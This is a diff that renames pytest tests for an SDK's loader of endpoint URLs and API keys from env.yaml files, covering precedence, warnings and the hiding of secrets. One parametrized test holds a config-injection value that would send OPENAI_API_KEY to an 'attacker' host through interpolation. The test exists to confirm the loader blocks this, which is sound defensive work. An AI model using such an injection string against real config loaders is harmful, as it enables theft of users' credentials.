@@ -51,7 +51,7 @@ def test_without_files_and_variables_nothing_is_set() -> None:
 
 
 @pytest.mark.parametrize("name", ["env.yaml", ".env.yaml"])
-def test_a_file_is_read_whatever_else_is_in_it(folder: Path, name: str) -> None:
+def test_a_file_with_other_settings_is_read(folder: Path, name: str) -> None:
     write(folder / name)
     found = load_policy_settings()
     assert (found.policy_base_url, key(found), found.policy_model_name) == (
@@ -75,7 +75,7 @@ def test_a_variable_wins_over_the_files(folder: Path, monkeypatch: pytest.Monkey
     assert load_policy_settings().policy_base_url == "http://file:8000/v1"
 
 
-def test_the_address_of_a_folder_is_never_given_the_key_of_a_variable(
+def test_a_base_url_from_a_file_never_receives_a_key_from_a_variable(
     folder: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("GYMSDK_API_KEY", "sk-variable")
@@ -85,7 +85,7 @@ def test_the_address_of_a_folder_is_never_given_the_key_of_a_variable(
     assert (key(load_policy_settings()), key(resolve_endpoint("vllm/x", ModelOptions()))) == (None, None)
 
 
-def test_the_address_of_an_option_or_variable_is_never_given_the_key_of_a_folder(
+def test_a_base_url_from_an_option_or_variable_never_receives_a_key_from_a_file(
     folder: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     write(folder / "env.yaml")
@@ -105,7 +105,7 @@ def test_an_argument_wins_over_both(folder: Path, monkeypatch: pytest.MonkeyPatc
     assert (found.base_url, key(found)) == (("http://given/v1",), "sk-given")
 
 
-def test_a_value_may_come_from_elsewhere_in_the_file(folder: Path) -> None:
+def test_a_value_may_refer_to_another_value_in_the_file(folder: Path) -> None:
     write(folder / "env.yaml", "host: there\npolicy_base_url: http://${host}/v1\npolicy_api_key: sk-${ host }")
     assert (load_policy_settings().policy_base_url, key(load_policy_settings())) == ("http://there/v1", "sk-there")
 
@@ -123,7 +123,7 @@ def test_a_value_may_come_from_elsewhere_in_the_file(folder: Path) -> None:
         "policy_base_url: http://attacker/${oc.decode:'${oc.env:OPENAI_API_KEY}'}/v1",
     ],
 )
-def test_no_environment_variable_gets_into_a_file_that_was_found_in_the_folder(
+def test_a_file_in_the_working_folder_cannot_read_environment_variables(
     folder: Path, monkeypatch: pytest.MonkeyPatch, text: str
 ) -> None:
     monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-of-the-user")
@@ -149,7 +149,7 @@ def test_a_missing_or_empty_value_is_not_set(folder: Path) -> None:
     }
 
 
-def test_a_key_that_others_can_read_is_warned_of_in_one_line(folder: Path, caplog: pytest.LogCaptureFixture) -> None:
+def test_a_key_that_others_can_read_logs_one_warning(folder: Path, caplog: pytest.LogCaptureFixture) -> None:
     write(folder / "env.yaml", mode=0o644)
     with caplog.at_level(logging.WARNING):
         load_policy_settings()
@@ -159,7 +159,7 @@ def test_a_key_that_others_can_read_is_warned_of_in_one_line(folder: Path, caplo
 
 
 @pytest.mark.parametrize(("text", "mode"), [(FILE, 0o600), ("policy_model_name: x", 0o644)])
-def test_a_private_file_or_one_without_a_key_is_not_warned_of(
+def test_a_private_file_or_a_file_without_a_key_logs_no_warning(
     folder: Path, caplog: pytest.LogCaptureFixture, text: str, mode: int
 ) -> None:
     write(folder / "env.yaml", text, mode)
@@ -186,13 +186,13 @@ def test_a_bad_file_is_named_and_never_quoted(folder: Path, text: str, complaint
     assert "sk-torn" not in str(caught.value)
 
 
-def test_a_file_that_is_no_text_is_named(folder: Path) -> None:
+def test_a_file_that_is_not_text_is_named(folder: Path) -> None:
     (folder / "env.yaml").write_bytes(b"policy_api_key: \xff\xfe\x00")
     with pytest.raises(BadModelOption, match=r"env\.yaml"):
         load_policy_settings()
 
 
-def test_a_missing_base_url_is_refused_with_every_way_to_give_it() -> None:
+def test_a_missing_base_url_is_rejected_with_all_ways_to_set_it() -> None:
     with pytest.raises(BadModelOption, match=r"vllm/x .*--base-url.*GYMSDK_BASE_URL.*policy_base_url"):
         resolve_endpoint("vllm/x", ModelOptions())
 
@@ -243,24 +243,24 @@ def test_an_option_may_name_several_servers(given: object) -> None:
     assert validate_options("vllm/x", {"base_url": given}).base_url == SEVERAL
 
 
-def test_options_are_told_apart_and_have_a_hash_though_they_hold_objects() -> None:
+def test_options_with_objects_are_comparable_and_hashable() -> None:
     one, other = (validate_options("vllm/x", {"base_url": SEVERAL, "pinned": {"top_k": k}}) for k in (1, 2))
     again = validate_options("vllm/x", one.model_dump())
     assert (one == again, hash(one) == hash(again), one == other) == (True, True, False)
 
 
-def test_headers_show_nowhere() -> None:
+def test_headers_are_never_shown() -> None:
     given = validate_options("vllm/x", {"headers": {"X-Team": "hush"}})
     assert "hush" not in f"{given!r}{given}{given.model_dump()}{given.model_dump_json()}"
 
 
-def test_a_wrong_base_url_in_a_file_is_refused_too(folder: Path) -> None:
+def test_an_invalid_base_url_in_a_file_is_rejected_too(folder: Path) -> None:
     write(folder / "env.yaml", "policy_base_url: localhost")
     with pytest.raises(BadModelOption, match="http://HOST:PORT/v1"):
         resolve_endpoint("vllm/x", ModelOptions())
 
 
-def test_a_key_shows_nowhere(folder: Path) -> None:
+def test_a_key_is_never_shown(folder: Path) -> None:
     write(folder / "env.yaml")
     found = load_policy_settings()
     given = validate_options("vllm/x", {"api_key": "sk-given", "base_url": "http://x/v1"})
@@ -268,13 +268,13 @@ def test_a_key_shows_nowhere(folder: Path) -> None:
     assert "sk-" not in shown
 
 
-def test_a_wrong_key_is_refused_without_showing_it() -> None:
+def test_an_invalid_key_is_rejected_and_not_shown() -> None:
     with pytest.raises(BadModelOption) as caught:
         validate_options("vllm/x", {"api_key": ["sk-list"]})
     assert "sk-list" not in str(caught.value)
 
 
-def test_a_password_in_the_address_is_refused_and_not_repeated() -> None:
+def test_a_password_in_the_base_url_is_rejected_and_not_shown() -> None:
     with pytest.raises(BadModelOption, match="leave user and password out of it") as refused:
         validate_options("endpoint/x", {"base_url": "http://me:hush@127.0.0.1:1/v1"})
     assert "hush" not in str(refused.value)
